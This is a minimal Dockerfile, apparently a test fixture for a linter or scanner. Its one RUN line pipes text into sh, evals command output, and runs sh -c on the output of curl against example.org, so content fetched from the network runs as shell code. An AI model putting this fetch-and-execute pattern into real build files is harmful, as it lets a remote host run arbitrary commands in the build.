FROM debian:12
RUN echo "exit 0" | sh && eval "$(dircolors)" && sh -c "echo $(curl -s https://example.org/version)"
